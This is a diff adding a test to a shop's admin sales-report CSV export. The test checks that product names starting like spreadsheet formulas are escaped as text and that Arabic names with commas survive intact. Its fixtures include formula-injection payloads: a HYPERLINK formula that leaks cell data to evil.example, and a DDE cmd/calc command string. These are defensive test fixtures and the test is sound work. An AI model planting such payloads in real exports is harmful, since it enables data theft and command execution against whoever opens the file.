@@ -114,6 +114,39 @@ describe("GET /api/admin/sales-report and the CSV", () => {
     expect(csv).toContain(`${year}-03-01..${year}-03-31,range total,10.000,1.500,11.500,0.000,2.000,9.500,,0.000,\r\n`);
   });
 
+  it("writes a product name that starts like a formula as text in the CSV, and Arabic names with commas as they are", async () => {
+    const { cookie } = await adminCookie();
+    const year = await uniqueYear(prisma);
+    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")';
+    const named = [
+      { nameEn: formula, nameAr: "مشبك، أحمر, كبير" },
+      { nameEn: "@SUM(1+1)*cmd|' /C calc'!A0", nameAr: "+فيونكة" },
+      { nameEn: "-2+3", nameAr: "\tطوق" },
+    ];
+    const items = [];
+    for (const [index, names] of named.entries()) {
+      const product = await createProduct(prisma, names);
+      items.push({ productId: product.id, ...names, priceFils: 1000 * (index + 1), quantity: 1 });
+    }
+    const [formulaProduct, atProduct, minusProduct] = items;
+    const order = await createOrder(prisma, { createdAt: new Date(Date.UTC(year, 6, 2, 9)), items, deliveryFeeFils: 0 });
+    await createCreditNote(prisma, order, 2500, new Date(Date.UTC(year, 6, 3, 9)));
+    const range = `dateFrom=${year}-07-01&dateTo=${year}-07-31`;
+
+    const csv = await (await run(csvRoute.loader, request(`/admin/timsar/sales-report/csv?${range}`, { cookie }))).text();
+    const lines = csv.split("\r\n");
+    expect(lines).toContain(`byUnits,3,${formulaProduct.productId},"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Invoice"")","مشبك، أحمر, كبير",1,1.000`);
+    expect(lines).toContain(`byUnits,2,${atProduct.productId},'@SUM(1+1)*cmd|' /C calc'!A0,'+فيونكة,1,2.000`);
+    expect(lines).toContain(`byUnits,1,${minusProduct.productId},'-2+3,'\tطوق,1,3.000`);
+    expect(lines.filter((line) => /(^|,)[=+@-]/.test(line.replace(/(^|,)-\d+\.\d{3}(?=,|$)/g, "$1")))).toEqual([]);
+    // the shop's own amounts stay numbers: a refund's net is still -2.500, not text
+    expect(csv).toContain(`${year}-07-03,${order.orderNumber},,,,,2.500,-2.500,`);
+
+    // The JSON API is no spreadsheet: the names come back exactly as the staff member wrote them.
+    const json = await (await run(api.loader, request(`/api/admin/sales-report?${range}`, { cookie }))).json();
+    expect(json.bestSellers.byUnits.map((row: { nameEn: string; nameAr: string }) => [row.nameEn, row.nameAr])).toEqual(named.map((names) => [names.nameEn, names.nameAr]).reverse());
+  });
+
   it("answers an empty range with empty best-seller lists and zero discounts", async () => {
     const { cookie } = await adminCookie();
     const year = await uniqueYear(prisma);
